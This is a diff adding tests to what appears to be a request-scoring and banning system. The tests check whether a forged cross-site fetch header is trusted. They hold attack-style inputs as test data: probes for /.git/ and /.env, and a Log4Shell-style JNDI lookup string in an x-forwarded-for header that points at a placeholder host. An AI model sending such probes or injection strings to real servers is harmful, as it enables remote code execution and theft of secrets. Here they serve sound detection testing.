@@ -116,3 +116,21 @@ it('mistakes of somebody known are never charged to the address', async () => {
   );
   expect(await play(misses)).toMatchObject({ bannedBy: [], share: 0 });
 });
+
+describe('who says that another site has made a browser ask', () => {
+  const forged = { 'user-agent': browser, 'sec-fetch-site': 'cross-site' };
+
+  it('is believed for what a page full of pictures asks for, and no longer', async () => {
+    const looks = (count: number) =>
+      Array.from({ length: count }, (_, index) => asked(`/.git/${index}`, { headers: forged }));
+    expect((await play(looks(20))).bannedBy).toEqual([]);
+    expect(await play(looks(30))).toMatchObject({ bannedBy: ['telltale-path'], after: 21 });
+  });
+
+  it('is not believed where no page can ask so, or set the header', async () => {
+    const written = asked('/.env', { method: 'PUT', headers: forged });
+    expect((await play([written])).share).toBeGreaterThanOrEqual(0.5);
+    const headers = { ...forged, 'x-forwarded-for': '$' + '{jndi:ldap://e.example/a}' };
+    expect((await play([asked('/', { headers })])).share).toBeGreaterThanOrEqual(0.5);
+  });
+});
